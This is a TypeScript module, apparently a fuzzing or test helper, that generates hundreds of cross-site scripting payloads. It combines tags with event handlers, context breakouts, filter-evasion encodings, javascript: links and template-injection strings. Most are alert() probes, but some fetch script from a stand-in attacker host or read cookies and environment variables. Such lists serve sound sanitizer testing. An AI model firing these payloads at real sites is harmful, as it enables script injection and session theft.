import { list } from "../list.ts";

const RUN = "alert(1)";

const tags = list(`
  img src=x  svg  body  iframe  input autofocus  select autofocus  textarea autofocus  video src=x
  audio src=x  details open  marquee  object data=x  embed src=x  form  button  a href=#  div  math  table
  keygen autofocus  source src=x  track src=x  link rel=stylesheet href=x  style  script src=x
  base href=//evil.example  meta http-equiv=refresh content=0  xss id=x tabindex=1  p  svg><animate
  svg><set  svg><script  picture><source  dialog open  slot  template  portal src=x`);
const events = list(String.raw`
  onerror  onload  onclick  onfocus  onmouseover  ontoggle  onstart  onbegin  onpageshow  onanimationstart
  ontransitionend  onpointerenter  onbeforetoggle  onscrollend  onbeforeinput  ONERROR  oNlOaD
  onerror\u000b  onhashchange  oncontentvisibilityautostatechange`);

const breaks = list(String.raw`
  ">  '>  \u0060>  >  </title>  </script>  </textarea>  </style>  </noscript>  </option></select>  -->  --!>
  ]]>  */  "/>  '\u0020  "\u0020  \\  \\"  \\'  \n  \u2028  </p>  </a>  </dd></dl>  "}</script>
  "]}</script>  </SCRIPT >  </script\t>  <!--<script>  <![CDATA[  <?xml?>  \ufeff`);
const cores = list(`
  <script>alert(1)</script>  <img src=x onerror=alert(1)>  <svg/onload=alert(1)>
  <svg><script>alert(1)</script>  <iframe srcdoc="<script>alert(1)</script>">
  <a href=javascript:alert(1)>x</a>  <input onfocus=alert(1) autofocus>
  <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
  <noscript><p title="</noscript><img src=x onerror=alert(1)>">
  <style>@import'javascript:alert(1)';</style>  <base href=javascript:/a/-alert(1)///>
  <x onclick=alert(1)>x</x>  <form><button formaction=javascript:alert(1)>x
  <object data=data:text/html,<script>alert(1)</script>>  onmouseover=alert(1) x=
  <meta http-equiv=refresh content="0;url=javascript:alert(1)">  <template><script>alert(1)
  <embed src=javascript:alert(1)>  <link rel=import href=data:text/html,alert(1)>
  <select><style></select><img src=x onerror=alert(1)>`);

const hex = (text: string) => [...text].map((sign) => `&#x${sign.codePointAt(0)?.toString(16)};`).join("");
const encodings: ((text: string) => string)[] = [
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&#60"),
  hex,
  encodeURIComponent,
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (text) => text.replaceAll("<", "\\x3c"),
  (text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  (text) => text.replaceAll("<", "‹").replaceAll(">", "›"),
  (text) => text.replaceAll("<", "%c0%bc"),
  (text) => text.replaceAll("<", "<\t"),
  (text) => text.replaceAll("<", "<\u0001"),
  (text) => text.replaceAll("<", "<<"),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll(" ", "\f"),
  (text) => text.replaceAll(/[a-z]/g, (sign, at: number) => (at % 2 ? sign.toUpperCase() : sign)),
  (text) => text.replaceAll("script", "scr<script>ipt"),
  (text) => text.replaceAll("alert", "\\u0061lert"),
  (text) => text.replaceAll("(1)", "`1`"),
  (text) => `${text}<!--`,
  (text) => text.slice(0, -1),
];

const schemes = list(String.raw`
  javascript:  JaVaScRiPt:  java\tscript:  java\nscript:  \u0001javascript:  \u0020javascript:
  javascript\t:  javascript&colon;  java&#x73;cript:  javascript%3a  vbscript:  data:text/html,
  data:text/html;base64,  data:image/svg+xml,  blob:  file:///  view-source:javascript:  feed:javascript:
  https:javascript:  //evil.example/  https://evil.example/#javascript:  javascript://evil.example/%0a
  livescript:  mhtml:`);
const links = list(String.raw`
  @@  [x](@@)  ![x](@@)  [x](<@@>)  <@@>  [x]: @@\n[x]  [![x](@@)](@@)  [x](@@ "x" onclick=alert(1))
  <a href="@@">x</a>  <iframe src='@@'>  <svg><a xlink:href="@@"><text>x
  <form action=@@><input type=submit>  <img srcset="@@ 1x">  <div style="background:url(@@)">
  <math href="@@">x  url:@@ lien`);

const templates = list(String.raw`
  {{@@}}  {{{@@}}}  \u0024{@@}  #{@@}  <%=@@%>  <%@@%>  [[@@]]  {%@@%}  @(@@)  *{@@}  {#@@#}
  \u0060\u0024{@@}\u0060  <div ng-app>{{@@}}</div>  <div v-html="'@@'">  <div x-init="@@">  "-@@-"  ';@@;//
  \\";@@//  "};@@;({"a":"  {"__proto__":{"dangerouslySetInnerHTML":{"__html":"@@"}}}
  <style>*{x:expression(@@)}</style>  */{}</style><script>@@</script>`);
const codes = list(`
  alert(1)  constructor.constructor('alert(1)')()  $eval.constructor('alert(1)')()  7*7  process.env
  window['al'+'ert'](1)  top[/al/.source+/ert/.source](1)  import('//evil.example/x.js')  eval(name)
  document.cookie  location='javascript:alert(1)'  self.alert?.(1)
  this.constructor.constructor('alert(1)')()`);

/** In the place of "@@". */
const linksAndTemplates = [
  ...schemes.flatMap((scheme) => links.map((link) => link.replaceAll("@@", scheme + RUN))),
  ...templates.flatMap((template) => codes.map((code) => template.replaceAll("@@", () => code))),
];

export function scriptPayloads(): string[] {
  const all = [
    ...tags.flatMap((tag) => events.map((event) => `<${tag} ${event}=${RUN}>`)),
    ...breaks.flatMap((end) => cores.map((core) => end + core)),
    ...encodings.flatMap((encode) => cores.map(encode)),
    ...linksAndTemplates,
    ...breaks.flatMap((end) =>
      events.slice(0, 12).map((event) => `x${end} ${event}=${RUN} autofocus tabindex=1 y=`),
    ),
  ];
  return [...new Set(all)].map((payload, n) => payload.replaceAll("alert(1)", `alert(${n + 1})`));
}
